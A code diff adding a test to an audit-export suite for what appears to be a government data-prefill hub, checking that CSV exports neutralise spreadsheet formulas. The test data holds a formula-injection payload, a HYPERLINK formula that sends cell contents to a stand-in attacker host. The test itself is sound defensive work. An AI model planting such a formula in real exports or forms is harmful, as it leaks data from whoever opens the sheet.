@@ -1403,6 +1403,20 @@ def test_audit_export_for_an_inspection_is_checkable_later(
     assert hub_cli("export", "--out", str(sheet), "--agency", AGENCY, "--csv").returncode == 0
     rows = list(csv.DictReader(sheet.open(encoding="utf-8")))
     assert len(rows) == 4 and rows[0]["chain_hash"] == edited[0]["chain_hash"] and rows[0]["officer"] == "cb-0042"
+    # a client system names its officer as a spreadsheet formula: the inspector's spreadsheet shows it as text
+    trap = '=HYPERLINK("http://attacker.example/?"&A1,"Xem")'
+    r = hub.http.post(
+        "/v1/prefill",
+        json={"procedure": "1.004873", "subject_id": items[1]["SoDinhDanh"], "purpose": PURPOSE,
+              "requested_by": {"officer": trap, "agency": AGENCY}},
+    )  # fmt: skip
+    assert r.status_code == 200, r.text
+    assert hub_cli("export", "--out", str(sheet), "--agency", AGENCY, "--csv").returncode == 0
+    officers = [row["officer"] for row in csv.DictReader(sheet.open(encoding="utf-8"))]
+    assert officers[-1] == "'" + trap and officers[0] == "cb-0042"
+    whole = tmp_path / "whole.jsonl"  # the checkable export keeps what was logged, as logged
+    assert hub_cli("export", "--out", str(whole)).returncode == 0
+    assert json.loads(whole.read_text(encoding="utf-8").splitlines()[-1])["officer"] == trap
 
 
 def ask_with(hub: Hub, subject_id: str, headers: dict[str, str]) -> httpx.Response:
